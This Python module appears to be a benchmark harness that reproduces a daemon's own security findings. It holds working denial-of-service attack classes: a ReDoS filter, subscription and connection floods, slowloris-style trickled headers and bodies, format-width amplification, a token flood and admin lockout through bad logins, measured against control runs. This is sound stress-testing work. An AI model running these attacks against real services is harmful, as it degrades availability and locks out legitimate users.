"""
The attack families of issue 11, as bench/hostile.py runs them: each holds
the pressure of one finding on a daemon for as long as it is told, from the
attacker's source address, as the user C{bob} (no roles) or anonymously.

An attack never waits for the daemon to stop it: L{Attack.stop} aborts every
connection it holds and its loops end.  What it managed to do (connections
held, calls answered, errors) is reported beside the admin's figures.
"""

from __future__ import annotations

from typing import Any, Awaitable, Callable

import attrs
from twisted.internet import defer
from twisted.internet.task import deferLater

from hostile_clients import Pool, RPCConnection, open_http, open_rpc

__all__ = ["ATTACKS", "Attack", "Target"]

#: The probe an attack is measured with: a logged-in connection kept open, or
#: a new connection that logs in (what an attack on connections or logins hurts).
SESSION = "session"
FRESH = "fresh login"


@attrs.define
class Target:
    """
    The daemon under attack and who attacks it.

    @ivar source: the attacker's source address (the admin's is 127.0.0.1).
    @ivar bob: the attacker's user name and password (a user with no roles).
    @ivar admin_name: the administrator's user name (the login attack's victim).
    """

    reactor: Any
    host: str
    port: int
    source: str
    bob: tuple[str, str]
    admin_name: str
    options: Any


class Attack:
    """
    One family of attacks.  Subclasses say what they do in L{prepare} (before
    the measured window) and L{run} (during it).

    @cvar name: the row's name.
    @cvar finding: what issue 11 found.
    @cvar probe: L{SESSION} or L{FRESH}.
    @cvar needs_history: the daemon's store is filled with finished jobs
        (C{--history-jobs}) before it starts.
    @cvar control: the same load without the fault, measured in the row
        after this one, so that what the fault adds can be told apart from
        what the load itself costs (or C{None}).
    @cvar control_for: for a control, the C{ATTACKS} key of its attack.
    """

    name = ""
    finding = ""
    probe = SESSION
    needs_history = False
    control: type[Attack] | None = None
    control_for = ""

    def __init__(self, target: Target) -> None:
        self.target = target
        self.pool = Pool()
        self.stopped = False
        self.calls = 0
        self.failed = 0
        self.last_error = ""

    async def prepare(self) -> None:
        """
        Set up what the attack needs before it is measured.
        """

    async def run(self) -> None:
        """
        Attack until L{stop}.
        """

    async def settle(self) -> None:
        """
        After the measured window, before L{summary}: find out what the
        attack's connections went through (it still runs meanwhile).
        """

    def stop(self) -> None:
        self.stopped = True
        self.pool.abort_all()

    def summary(self) -> str:
        """
        What the attack achieved, in a few words.
        """
        return f"{self.calls} calls done, {self.failed} refused or failed{self._last()}"

    def figures(self) -> dict[str, Any]:
        """
        What the attack achieved, as numbers for the JSON line.
        """
        return {"calls": self.calls, "failed": self.failed}

    def _last(self) -> str:
        return f" (last: {self.last_error[:60]})" if self.last_error else ""

    # Helpers.

    async def bob(self, legacy_jobs: bool = True) -> RPCConnection:
        """
        A connection logged in as bob (new-style job answers unless C{legacy_jobs}).
        """
        t = self.target
        connection = await self.pool.add(open_rpc(t.reactor, t.host, t.port, t.source))
        if connection is None:
            raise ConnectionError("cannot connect")
        answer = await connection.call("auth.login", *t.bob)
        if answer.get("result") is not True:
            raise RuntimeError(f"bob cannot log in: {answer}")
        if not legacy_jobs:
            await connection.call("core.set_options", {"legacy_jobs": False})
        return connection

    async def repeat(self, step: Callable[[], Awaitable[Any]], pause: float = 0) -> None:
        """
        Run C{step} again and again until L{stop}, counting what it answers.
        """
        while not self.stopped:
            try:
                answer = await step()
            except Exception as e:
                if self.stopped:
                    return
                self.failed += 1
                self.last_error = f"{type(e).__name__}: {e}"
                await self.sleep(0.1)
                continue
            if isinstance(answer, dict) and "error" in answer:
                self.failed += 1
                self.last_error = str(answer["error"].get("data", {}).get("reason") or answer["error"])
            else:
                self.calls += 1
            if pause:
                await self.sleep(pause)

    def sleep(self, seconds: float) -> defer.Deferred[None]:
        return deferLater(self.target.reactor, seconds, lambda: None)

    async def together(self, *loops: Awaitable[Any]) -> None:
        await defer.DeferredList(
            [defer.Deferred.fromCoroutine(loop) for loop in loops],  # type: ignore[arg-type]
            consumeErrors=True,
        )


class ReDoS(Attack):
    name = "ReDoS filter"
    finding = "1: core.get_jobs with [arguments.2 ~ ^(a|a)+$] over a description of 28 a's and a !"

    async def prepare(self) -> None:
        self.connections = [await self.bob(legacy_jobs=False) for _ in range(self.target.options.redos_clients)]
        answer = await self.connections[0].call("core.bulk", "core.ping", [[]], "a" * 28 + "!")
        if "error" in answer:
            raise RuntimeError(f"core.bulk failed: {answer}")

    async def run(self) -> None:
        filters = [["arguments.2", "~", "^(a|a)+$"]]
        await self.together(*(self.repeat(lambda c=c: c.call("core.get_jobs", filters)) for c in self.connections))


class Subscriptions(Attack):
    name = "pipelined subscriptions"
    finding = "2: thousands of core.subscribe('core.get_jobs') on one connection"

    async def prepare(self) -> None:
        self.connections = [await self.bob() for _ in range(self.target.options.subscription_clients)]

    async def run(self) -> None:
        # In slices, one reactor turn each: framing all of them at once would
        # stall this process (the admin's probe has its own) for seconds.
        for connection in self.connections:
            for start in range(0, self.target.options.subscriptions, 500):
                for _ in range(start, min(start + 500, self.target.options.subscriptions)):
                    connection.send("core.subscribe", "core.get_jobs")
                await self.sleep(0)
        while not self.stopped:
            await self.sleep(0.2)

    def summary(self) -> str:
        answers = sum(c.answers for c in self.connections)
        errors = sum(c.errors for c in self.connections)
        sent = len(self.connections) * self.target.options.subscriptions
        return f"{sent} subscribes sent on {len(self.connections)} connections, {answers} answered ({errors} errors)"


class ReadingSubscriber(Attack):
    name = "never-reads control"
    finding = (
        "control of 3: the same jobs from the same clients, with a subscriber that reads "
        "(what the jobs themselves hold: the daemon keeps 1,000 finished jobs, each with its 60 KB argument)"
    )
    control_for = "never-reads"
    #: Whether the subscriber stops reading once subscribed.
    reads = True

    async def prepare(self) -> None:
        self.subscriber = await self.bob()
        answer = await self.subscriber.call("core.subscribe", "core.get_jobs")
        if "error" in answer:
            raise RuntimeError(f"core.subscribe failed: {answer}")
        if not self.reads:
            self.subscriber.stop_reading()
        self.runners = [await self.bob(legacy_jobs=False) for _ in range(self.target.options.job_clients)]

    async def run(self) -> None:
        # bob may run core.bulk: each job's record (in every event) holds its big argument.
        params = [["x" * self.target.options.event_bytes]]
        await self.together(*(self.repeat(lambda r=r: r.call("core.bulk", "core.ping", params)) for r in self.runners))

    async def settle(self) -> None:
        if not self.reads:
            # A connection that reads nothing cannot see the daemon close it:
            # read what piled up, up to the close frame if there is one.
            self.subscriber.resume_reading()
            closing: defer.Deferred[None] = defer.Deferred()  # cancelled by its timeout, not the connection's

            def closed(result: Any) -> Any:
                if not closing.called:
                    closing.callback(None)
                return result

            self.subscriber.closed.addBoth(closed)
            await closing.addTimeout(3, self.target.reactor).addErrback(lambda _: None)

    def _subscriber_state(self) -> str:
        if not self.subscriber.closed.called:
            return "still connected"
        code = getattr(self.subscriber, "close_code", None)
        reason = getattr(self.subscriber, "close_reason", None)
        return f"closed by the daemon ({code}{f' {reason}' if reason else ''})"

    def summary(self) -> str:
        return (
            f"{self.calls} jobs run; the subscriber read {self.subscriber.events} events, "
            f"is {self._subscriber_state()}{self._last()}"
        )

    def figures(self) -> dict[str, Any]:
        return {
            **super().figures(),
            "subscriber_events": self.subscriber.events,
            "subscriber_connected": self._subscriber_state() == "still connected",
        }


class NeverReads(ReadingSubscriber):
    name = "subscriber never reads"
    finding = "3: a core.get_jobs subscriber that stops reading while jobs (core.bulk, 60 KB arguments) run"
    control = ReadingSubscriber
    control_for = ""
    reads = False

    def summary(self) -> str:
        return f"{self.calls} jobs run; the subscriber is {self._subscriber_state()}{self._last()}"


class ConnectionFlood(Attack):
    name = "connection flood"
    finding = "4: anonymous WebSockets that never log in, HTTP headers trickled, 1,000+ connections"
    probe = FRESH

    async def run(self) -> None:
        await self.together(self._websockets(), self._tricklers())

    async def _websockets(self) -> None:
        t = self.target
        while not self.stopped:
            missing = t.options.flood - self.pool.open_count()
            for start in range(0, max(0, missing), 50):
                batch = [
                    self.pool.add(open_rpc(t.reactor, t.host, t.port, t.source))
                    for _ in range(min(50, missing - start))
                ]
                await defer.DeferredList([defer.Deferred.fromCoroutine(b) for b in batch])
                if self.stopped:
                    return
            await self.sleep(1)

    async def _tricklers(self) -> None:
        t = self.target
        held: list[Any] = []
        while not self.stopped:
            held = [c for c in held if c.is_open]
            for _ in range(t.options.tricklers - len(held)):
                connection = await self.pool.add(open_http(t.reactor, t.host, t.port, t.source))
                if connection is not None:
                    connection.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                    held.append(connection)
            for connection in held:
                connection.write(b"X-Trickle: 1\r\n")
            await self.sleep(1)

    def summary(self) -> str:
        return (
            f"{self.pool.open_count()} connections open at the end, "
            f"{self.pool.tried} tried, {self.pool.refused} refused or failed"
        )


class FormatString(Attack):
    name = "bulk description format"
    finding = "6: core.bulk description '{0:>N}' formats user data into an N-character string"

    async def prepare(self) -> None:
        self.connection = await self.bob(legacy_jobs=False)
        self.subscriber = await self.bob()
        await self.subscriber.call("core.subscribe", "core.get_jobs")

    async def run(self) -> None:
        description = "{0:>%d}" % self.target.options.format_width
        await self.repeat(lambda: self.connection.call("core.bulk", "core.ping", [[]], description))


class TokenFlood(Attack):
    name = "token flood"
    finding = "7: auth.generate_token with 60 KB attrs, valid 24 h, without limit"

    async def prepare(self) -> None:
        self.connections = [await self.bob() for _ in range(4)]

    async def run(self) -> None:
        attrs_ = {"padding": "y" * self.target.options.token_attrs}
        limit = self.target.options.tokens

        async def one(connection: RPCConnection) -> Any:
            if self.calls + self.failed >= limit:
                self.stopped = True
                return None
            return await connection.call("auth.generate_token", 86400, attrs_)

        await self.together(*(self.repeat(lambda c=c: one(c)) for c in self.connections))


class LargeBody(Attack):
    name = "large body POST /"
    finding = "8: POST / with Content-Length 300 MiB, trickled, before any login"

    async def run(self) -> None:
        t = self.target
        held: list[Any] = []
        chunk = b"z" * t.options.trickle_bytes
        while not self.stopped:
            held = [c for c in held if c.is_open]
            for _ in range(t.options.bodies - len(held)):
                connection = await self.pool.add(open_http(t.reactor, t.host, t.port, t.source))
                if connection is not None:
                    connection.write(
                        b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\n"
                        b"Content-Length: %d\r\n\r\n" % (300 * 1024 * 1024)
                    )
                    held.append(connection)
            for connection in held:
                connection.write(chunk)
                self.calls += 1
            await self.sleep(0.1)

    def summary(self) -> str:
        return (
            f"{self.calls} chunks of {self.target.options.trickle_bytes} bytes sent, "
            f"{self.pool.tried} connections opened, {self.pool.open_count()} open at the end"
        )


class HistoryScans(Attack):
    name = "slow history scans"
    finding = "11: non-indexed core.get_jobs over a large history by a user with no roles"

    needs_history = True

    async def prepare(self) -> None:
        self.connections = [await self.bob() for _ in range(self.target.options.scan_clients)]

    async def run(self) -> None:
        filters = [["description", "=", "no such description"]]
        await self.together(*(self.repeat(lambda c=c: c.call("core.get_jobs", filters)) for c in self.connections))


class LoginFailures(Attack):
    name = "admin login failures"
    finding = "throttle: bad passwords for admin from the attacker's address lock admin out everywhere"
    probe = FRESH

    async def run(self) -> None:
        async def loop() -> None:
            connection: RPCConnection | None = None
            while not self.stopped:
                try:
                    if connection is None or connection.transport is None or not connection.transport.connected:
                        connection = await self.pool.add(
                            open_rpc(self.target.reactor, self.target.host, self.target.port, self.target.source)
                        )
                        if connection is None:
                            await self.sleep(0.1)
                            continue
                    answer = await connection.call("auth.login", self.target.admin_name, "wrong password")
                except Exception as e:
                    if self.stopped:
                        return
                    self.failed += 1
                    self.last_error = f"{type(e).__name__}: {e}"
                    connection = None
                    continue
                self.calls += 1
                if "error" in answer:
                    self.last_error = str(answer["error"])
                await self.sleep(0.02)

        await self.together(*(loop() for _ in range(4)))

    def summary(self) -> str:
        return f"{self.calls} bad logins answered, {self.failed} failed{self._last()}"


#: Every family, in the order they run.
ATTACKS: dict[str, type[Attack]] = {
    "redos": ReDoS,
    "subscriptions": Subscriptions,
    "never-reads": NeverReads,
    "connections": ConnectionFlood,
    "format": FormatString,
    "tokens": TokenFlood,
    "body": LargeBody,
    "history": HistoryScans,
    "logins": LoginFailures,
}
